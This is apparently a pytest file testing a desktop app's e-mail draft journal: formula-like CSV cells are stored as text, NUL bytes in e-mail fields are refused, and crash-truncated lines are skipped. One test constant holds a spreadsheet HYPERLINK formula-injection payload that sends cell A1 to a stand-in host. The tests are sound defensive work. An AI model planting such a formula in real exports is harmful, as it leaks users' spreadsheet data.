"""The e-mail journal runs nothing in Excel; a NUL byte never reaches a draft.

Before: ``courriels/journal.csv`` stored ``=HYPERLINK(…)`` raw (a formula as soon as
Excel opened it) and a NUL byte in an e-mail field went into the ``.eml``. The CSV
journal is kept (the e-mail dialog lists past drafts from it), protected like the
exchange workbooks; the register of transmissions records each draft as well.
"""

from __future__ import annotations

import csv
from datetime import datetime
from email.message import EmailMessage
from pathlib import Path

import pytest

from ti_desktop.errors import UserFacingError
from ti_desktop.services.documents.email_draft import build_draft, read_journal, save_draft

HOSTILE = '=HYPERLINK("https://exemple.invalid/?"&A1,"Cliquez ici")'


def _draft(subject: str = "Documents", body: str = "Bonjour", to: str = "a@b.fr") -> EmailMessage:
    return build_draft(
        sender="", recipients=[to], cc=[], subject=subject, body=body, attachments=[]
    )


@pytest.mark.parametrize("text", [HOSTILE, "+33 1 23 45 67 89", "-2 %", "@SOMME(A1:A3)"])
def test_journal_cells_that_look_like_formulas_are_kept_as_text(tmp_path: Path, text: str) -> None:
    message = _draft(subject=text)
    save_draft(message, tmp_path, territoire=text, now=datetime(2026, 3, 12, 9, 0, 0))
    raw = (tmp_path / "journal.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines(), delimiter=";"))
    assert rows[0][:3] == ["Date", "Territoire", "Objet"]
    assert rows[1][1] == "'" + text and rows[1][2] == "'" + text  # Excel shows the text
    (entry,) = read_journal(tmp_path / "journal.csv")
    assert entry.territoire == text and entry.subject == text  # and it reads back as typed


def test_an_apostrophe_the_user_typed_survives_the_round_trip(tmp_path: Path) -> None:
    message = _draft(subject="'Entre apostrophes'")
    save_draft(message, tmp_path, territoire="T", now=datetime(2026, 3, 12, 9, 0, 0))
    (entry,) = read_journal(tmp_path / "journal.csv")
    assert entry.subject == "'Entre apostrophes'"


@pytest.mark.parametrize(
    ("field", "draft"),
    [
        ("Objet", {"subject": "Documents\x00"}),
        ("Message", {"body": "Bonjour\x00 Madame"}),
        ("Destinataires", {"to": "a\x00@b.fr"}),
    ],
)
def test_a_nul_byte_in_an_e_mail_field_is_refused(field: str, draft: dict[str, str]) -> None:
    with pytest.raises(UserFacingError) as refused:
        _draft(**draft)
    assert f"Le champ « {field} » contient un caractère nul" in refused.value.message


def test_a_journal_line_cut_by_a_crash_is_skipped(tmp_path: Path) -> None:
    save_draft(_draft(), tmp_path, territoire="T", now=datetime(2026, 3, 12, 9, 0, 0))
    with (tmp_path / "journal.csv").open("a", encoding="utf-8") as journal:
        journal.write("12/03/2026 09:0")  # the program died mid-line
    save_draft(_draft(), tmp_path, territoire="T", now=datetime(2026, 3, 12, 9, 0, 1))
    assert [e.prepared_at.second for e in read_journal(tmp_path / "journal.csv")] == [0, 1]
